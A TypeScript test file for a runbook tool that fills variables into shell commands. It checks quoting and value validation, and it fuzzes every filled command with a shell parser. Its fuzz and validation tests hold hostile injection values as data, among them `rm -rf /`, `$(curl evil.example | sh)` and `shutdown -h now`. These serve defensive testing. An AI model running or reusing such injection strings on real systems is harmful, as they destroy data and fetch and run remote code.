/**
 * Command filling: splitting, quoting, value kinds, the build check of declared variables, and a
 * fuzz run where a real shell parser (mvdan-sh, the parser behind shfmt) reads every filled
 * command of every runbook and must find the same program as with a harmless value.
 */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import matter from 'gray-matter';
import sh from 'mvdan-sh';
import {
  checkValue,
  fillShell,
  isInsertable,
  isShellLanguage,
  shellQuote,
  shellVariables,
  splitShell,
  variableKind,
  type FilledValue,
} from '../../src/lib/commandFill';
import { checkCommandVariables, extractCodeBlocks } from '../../src/lib/commandVariables';
import { contextFields, parseAlertContext } from '../../src/lib/alertContext';
import type { CommandVariable } from '../../src/lib/runbookTypes';

const { syntax } = sh;
const parser = syntax.NewParser();

function runbookFiles(dir = 'docs/failure-modes'): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
    e.isDirectory() ? runbookFiles(path.join(dir, e.name)) : /^fm-.*\.mdx$/.test(e.name) ? [path.join(dir, e.name)] : [],
  );
}
const runbooks = runbookFiles().map((file) => {
  const { data, content } = matter(readFileSync(file, 'utf8'));
  return { file, variables: (data.variables ?? []) as CommandVariable[], body: content };
});
const shellBlocks = runbooks.flatMap((r) =>
  extractCodeBlocks(r.body)
    .filter((b) => isShellLanguage(b.lang))
    .map((b) => b.code),
);

/**
 * One parse: the program's shape (node types in walk order) and its single-quoted texts. Literal
 * word parts (plain and single-quoted text) are left out of the shape: a value with a `'` is
 * written as `'a'\\''b'`, several literal parts of one word. Anything a value could smuggle in (a
 * command, a pipe, an expansion, another word, a redirection) is a node of another type.
 */
function parsed(code: string): { shape: string[]; quoted: string[] } {
  const shape: string[] = [];
  const quoted: string[] = [];
  syntax.Walk(parser.Parse(code, 'cmd'), (node) => {
    const type = node ? syntax.NodeType(node) : null;
    if (type === 'SglQuoted') quoted.push((node as unknown as { Value: string }).Value);
    else if (type && type !== 'Lit') shape.push(type);
    return true;
  });
  return { shape, quoted };
}

interface GoNode {
  Value?: string;
  Parts?: GoNode[];
  Stmts?: GoNode[];
  Cmd?: GoNode & { Args?: GoNode[] };
  Redirs?: unknown[];
}
/**
 * The words of one statement as the shell would pass them, or null when any part of any word is
 * not literal text (an expansion, a substitution) or the statement is more than one simple command.
 */
function literalWords(stmt: GoNode): string[] | null {
  if ((stmt.Redirs ?? []).length > 0 || !stmt.Cmd || syntax.NodeType(stmt.Cmd as never) !== 'CallExpr') return null;
  const words: string[] = [];
  for (const word of stmt.Cmd.Args ?? []) {
    let text = '';
    for (const part of word.Parts ?? []) {
      const type = syntax.NodeType(part as never);
      if (type === 'SglQuoted') text += part.Value ?? '';
      else if (type === 'Lit') text += (part.Value ?? '').replace(/\\(.)/g, '$1');
      else if (type === 'DblQuoted') {
        for (const inner of part.Parts ?? []) {
          if (syntax.NodeType(inner as never) !== 'Lit') return null;
          text += inner.Value ?? '';
        }
      } else return null;
    }
    words.push(text);
  }
  return words;
}

/** The arguments of each statement of a program, in order (see literalWords). */
function programArgs(code: string): (string[] | null)[] {
  const file = parser.Parse(code, 'cmd') as unknown as GoNode;
  return (file.Stmts ?? []).map(literalWords);
}

const all = (names: string[], value: string): Record<string, FilledValue> =>
  Object.fromEntries(names.map((n) => [n, { value, source: 'link' as const }]));

describe('splitShell and shellVariables', () => {
  it('finds $NAME and ${NAME} outside single quotes, also inside double quotes', () => {
    expect(shellVariables(`kubectl logs -n $NAMESPACE "deploy/\${SERVICE}" | awk '{print $NF}' | grep "$REQUEST_ID"`)).toEqual([
      'NAMESPACE',
      'SERVICE',
      'REQUEST_ID',
    ]);
  });
  it('ignores escaped dollars, lower-case names and awk fields', () => {
    expect(shellVariables(`echo \\$HOME $status $1 'x $Y'`)).toEqual([]);
  });
  it('keeps all text when nothing is filled', () => {
    const code = `curl "http://$HOST$ROUTE_PATH" -H 'A: $B'`;
    expect(
      splitShell(code)
        .map((p) => (p.type === 'text' ? p.text : p.raw))
        .join(''),
    ).toBe(code);
    expect(fillShell(code, {}).text).toBe(code);
    expect(fillShell(code, {}).unfilled).toEqual(['HOST', 'ROUTE_PATH']);
  });
});

describe('fillShell', () => {
  it('single-quotes values, closing double quotes around them', () => {
    const out = fillShell(`kubectl logs -n $NAMESPACE deploy/$SERVICE && curl "https://$HOST/x"`, {
      NAMESPACE: { value: 'shop', source: 'link' },
      SERVICE: { value: 'checkout', source: 'panel' },
      HOST: { value: 'shop.example.com', source: 'link' },
    });
    expect(out.text).toBe(`kubectl logs -n 'shop' deploy/'checkout' && curl "https://"'shop.example.com'"/x"`);
    expect(out.parts.filter((p) => p.type === 'value').map((p) => p.type === 'value' && p.source)).toEqual(['link', 'panel', 'link']);
  });
  it('drops the empty string left at the edge of a double-quoted string', () => {
    expect(fillShell(`grep "$REQUEST_ID"`, all(['REQUEST_ID'], 'r-1')).text).toBe(`grep 'r-1'`);
  });
  it('leaves a variable without value as written and marks it', () => {
    const out = fillShell(`kubectl get pods -n $NAMESPACE -l app=$SERVICE`, all(['NAMESPACE'], 'shop'));
    expect(out.text).toBe(`kubectl get pods -n 'shop' -l app=$SERVICE`);
    expect(out.parts.find((p) => p.type === 'unfilled')).toEqual({ type: 'unfilled', text: '$SERVICE', name: 'SERVICE' });
  });
  it('quotes a single quote the POSIX way', () => {
    expect(shellQuote(`a'b`)).toBe(`'a'\\''b'`);
  });
});

describe('value kinds', () => {
  it('accepts DNS-1123 names and refuses anything else for Kubernetes names', () => {
    expect(checkValue('k8s-label', 'shop-eu')).toEqual({ ok: true, value: 'shop-eu' });
    for (const bad of ['Shop', 'shop;id', 'a'.repeat(64), '-shop', 'shop_eu', '$(id)', 'a b'])
      expect(checkValue('k8s-label', bad).ok).toBe(false);
  });
  it('accepts an ARN and refuses a look-alike', () => {
    expect(checkValue('arn', 'arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/web/0123456789abcdef').ok).toBe(true);
    expect(checkValue('arn', 'arn:aws:elb:eu-west-1:123:tg;rm').ok).toBe(false);
  });
  it('says what it expected', () => {
    const r = checkValue('hostname', 'shop.example.com/evil');
    expect(r.ok || r.message).toMatch(/host name/);
  });
  it('gives every runbook variable a kind its example satisfies (secrets excepted)', () => {
    for (const r of runbooks) {
      for (const v of r.variables) {
        if (v.from === 'shell' && v.example === '(secret)') continue;
        if (v.name === 'APP_REPO') continue; // a local path, never filled
        expect(checkValue(variableKind(v.name), v.example), `${r.file} ${v.name}=${v.example} (${variableKind(v.name)})`).toMatchObject({
          ok: true,
        });
      }
    }
  });
  it('rejects hostile link values with a message the banner shows', () => {
    const ctx = parseAlertContext('?namespace=shop%3Brm%20-rf%20%2F&pod=web-1&host=%24(id)');
    expect(ctx.values).toEqual({ pod: 'web-1' });
    expect(ctx.problems.map((p) => p.field)).toEqual(['namespace', 'host']);
    expect(ctx.problems[0]?.message).toMatch(/DNS-1123/);
  });
});

describe('checkCommandVariables (build check)', () => {
  it('passes every runbook', () => {
    for (const r of runbooks) expect(checkCommandVariables(r.file, r.body, r.variables, contextFields), r.file).toEqual([]);
  });
  it('names the file, the line and the fix for an undeclared variable', () => {
    const body = 'Text\n\n```bash\nkubectl get pods -n $NAMESPACE -l app=$SERVICE\n```\n';
    const problems = checkCommandVariables(
      'docs/x.mdx',
      body,
      [{ name: 'NAMESPACE', meaning: 'ns', example: 'shop', from: 'namespace' }],
      contextFields,
    );
    expect(problems).toEqual([
      expect.objectContaining({
        file: 'docs/x.mdx',
        field: 'variables',
        message: expect.stringMatching(/line 3 uses \$SERVICE.*add "- name: SERVICE"/),
      }),
    ]);
  });
  it('refuses shell-set names, unknown sources and unused declarations', () => {
    const body = '```bash\ncurl "https://x$PATH"\n```\n';
    const problems = checkCommandVariables(
      'f.mdx',
      body,
      [
        { name: 'PATH', meaning: 'p', example: '/x', from: 'route' },
        { name: 'UNUSED', meaning: 'u', example: 'u', from: 'label' },
      ],
      contextFields,
    );
    expect(problems.map((p) => p.field)).toEqual(['variables.0.name', 'variables.1.from', 'variables.1']);
  });
});

describe('fuzz: a value never becomes shell syntax', () => {
  const hostile = fc.constantFrom(
    `'; rm -rf / #`,
    `$(curl evil.example | sh)`,
    '`id`',
    `a|b&c;d\ne`,
    `"$(id)"`,
    `\\'\\`,
    `''`,
    `'"'"'`,
    `\${IFS}`,
    '&& shutdown -h now',
    '\u0000\r\n',
    `x') ; echo ('`,
  );
  const value = fc.oneof(hostile, fc.string({ minLength: 1, maxLength: 40 }), fc.string({ unit: 'binary', minLength: 1, maxLength: 20 }));

  /** Fill every variable of the template with `v` and check what the shell would see. */
  function expectInert(template: string, v: string, baseline: string[]): void {
    const names = shellVariables(template);
    const result = fillShell(template, all(names, v));
    if (!isInsertable(v)) {
      expect(result.text).toBe(template);
      return;
    }
    expect(result.unfilled).toEqual([]);
    expect(result.text.split('\n').length).toBe(template.split('\n').length);
    const { shape, quoted } = parsed(result.text);
    expect(shape).toEqual(baseline);
    // The value's text reaches the shell only inside single quotes, split at its own quotes.
    const joined = quoted.join('\u0001');
    for (const piece of v.split("'").filter((s) => s !== '')) expect(joined).toContain(piece);
  }

  // Every quoting context the runbooks use: plain words, glued words, double quotes, a command
  // substitution inside double quotes with its own double quotes, backticks, ${NAME}, awk text.
  const contexts = [
    'kubectl logs -n $NAMESPACE -l app=$SERVICE --prefix | grep -c "$REQUEST_ID"',
    'curl -sS "https://$HOST$ROUTE_PATH" -H \'X-Probe: $HOST\' -o /dev/null',
    'for p in $(kubectl get pods -n $NAMESPACE -o name); do echo "$p $(kubectl logs $p -n $NAMESPACE | grep -c "$FINGERPRINT")"; done',
    'echo `kubectl get svc -n ${NAMESPACE} $SERVICE` && awk -v r="^$ROUTE_PATH" \'$7 ~ r {print $9}\' log',
    'aws elbv2 describe-target-health --target-group-arn $TG_ARN --query "TargetHealthDescriptions[?TargetHealth.State!=\'healthy\']"',
  ];

  it('has runbook commands to test', () => expect(shellBlocks.filter((b) => shellVariables(b).length > 0).length).toBeGreaterThan(100));

  // The 10,000 values go through two one-word commands, read with the parser alone (walking a
  // whole tree with mvdan-sh costs 10-30 ms per command on a loaded machine): the shell must see
  // one command with exactly one argument whose literal text is the value. They come in batches
  // of 100 commands, one per line, parsed as one program (a parse has a fixed cost that was most
  // of this test's time): a value that escaped its quotes would change the number of commands or
  // the words of its own, and fast-check still shrinks a failing batch to the value that broke it.
  it('10,000 generated values: the shell sees exactly the value as one literal word, plain or inside double quotes', () => {
    const cases = [
      { template: 'k $V', expected: (v: string) => v },
      { template: 'k "a/$V/b"', expected: (v: string) => `a/${v}/b` },
    ];
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.nat(1), value), { minLength: 100, maxLength: 100 }), (batch) => {
        const commands: { value: string; filled: string; expected: string }[] = [];
        for (const [i, v] of batch) {
          const { template, expected } = cases[i] as (typeof cases)[number];
          const filled = fillShell(template, all(['V'], v)).text;
          if (!isInsertable(v)) expect(filled).toBe(template);
          else commands.push({ value: v, filled, expected: expected(v) });
        }
        const args = programArgs(commands.map((c) => c.filled).join('\n'));
        expect(args.length, 'one command per filled line').toBe(commands.length);
        commands.forEach((c, j) => expect(args[j], `${JSON.stringify(c.value)} filled as ${c.filled}`).toEqual(['k', c.expected]));
      }),
      { numRuns: 100 },
    );
  }, 600_000);

  it('1,000 generated values in every quoting context the runbooks use', () => {
    const baselines = contexts.map((t) => parsed(fillShell(t, all(shellVariables(t), 'x')).text).shape);
    fc.assert(
      fc.property(fc.nat(contexts.length - 1), value, (i, v) => expectInert(contexts[i] as string, v, baselines[i] as string[])),
      { numRuns: 1_000 },
    );
  }, 300_000);

  it('every command of every runbook, filled with hostile values, keeps its program', () => {
    const values = [`'; rm -rf / #`, '`id`$(id)', `a"b|c&d`];
    for (const block of shellBlocks.filter((b) => shellVariables(b).length > 0)) {
      const baseline = parsed(fillShell(block, all(shellVariables(block), 'x')).text).shape;
      for (const v of values) expectInert(block, v, baseline);
    }
  }, 120_000);

  it('a value that passes its kind holds no shell syntax at all', () => {
    fc.assert(
      fc.property(value, (v) => {
        for (const kind of ['k8s-label', 'k8s-name', 'hostname', 'arn', 'region', 'port', 'ip'] as const) {
          const r = checkValue(kind, v);
          if (r.ok) expect(r.value).toMatch(/^[A-Za-z0-9.:/_+=@-]+$/);
        }
      }),
      { numRuns: 10_000 },
    );
  });
});
